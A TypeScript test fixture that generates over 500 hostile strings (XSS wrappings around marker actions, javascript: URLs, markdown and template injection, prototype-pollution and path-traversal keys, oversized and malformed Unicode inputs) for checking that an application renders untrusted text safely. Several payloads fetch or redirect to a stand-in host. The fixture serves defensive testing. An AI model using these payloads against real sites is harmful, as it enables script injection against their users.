/** What a name, a README, code or a reason may hold of an attacker. Each would set `hacked`, ask another site or open a dialog. */
const acts = [
  'globalThis.hacked=1',
  'alert(1)',
  "fetch('https://evil.example/')",
  "document.title='hacked'",
  "location='https://evil.example/'",
];

const wrappings: readonly ((act: string) => string)[] = [
  (act) => `<script>${act}</script>`,
  (act) => `</script><script>${act}</script>`,
  (act) => `<img src=x onerror="${act}">`,
  (act) => `"><img src=x onerror=${act}>`,
  (act) => `'-${act}-'`,
  (act) => `<svg onload="${act}"><animate onbegin="${act}" attributeName=x dur=1s>`,
  (act) => `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  (act) => `<a href="javascript:${act}">press</a>`,
  (act) => `javascript:${act}`,
  (act) => ` java\tscript\n:${act}`,
  (act) => `[press](javascript:${act})`,
  (act) => `![x](https://evil.example/?${act})`,
  (act) => `data:text/html,<script>${act}</script>`,
  (act) => `<body onload="${act}"><input autofocus onfocus="${act}">`,
  (act) => `<details open ontoggle="${act}">`,
  (act) =>
    `<style>@import 'https://evil.example/';</style><link rel=stylesheet href=https://evil.example/>${act}`,
  (act) => `<meta http-equiv="refresh" content="0;url=javascript:${act}">`,
  (act) => `<base href="https://evil.example/"><form action="javascript:${act}"><button>`,
  (act) => `\${${act}} {{constructor.constructor("${act}")()}} #{${act}}`,
  (act) => `\u202e<script>${act}</script>\u2066\u2069`,
  (act) => `\u0000<scr\u0000ipt>${act}</scr\u0000ipt>`,
  (act) => `<!--><script>${act}//--><![CDATA[<script>${act}]]>`,
  (act) => `\`\`\`js\n</code></pre><script>${act}</script>\n\`\`\``,
  (act) => `<math><mtext><table><mglyph><style><img src=x onerror="${act}">`,
  (act) => `%3Cscript%3E${act}%3C/script%3E&lt;script&gt;${act}&lt;/script&gt;`,
];

const disguises: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `a sentence of documentation that ends in ${text}`,
  (text) => `# ${text}`,
  (text) => `- **${text}** \`${text}\``,
];

const keys = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '../../x',
  'a/../b',
  '',
  ' ',
];

/** More than 500, each different from the others. */
export const hostileTexts: readonly string[] = [
  ...disguises.flatMap((disguise) => wrappings.flatMap((wrap) => acts.map((act) => disguise(wrap(act))))),
  ...keys,
  'x'.repeat(20_000),
  `${'<b>'.repeat(3000)}`,
  '\u202e'.repeat(500),
  '\ud800 lone and \udfff',
];
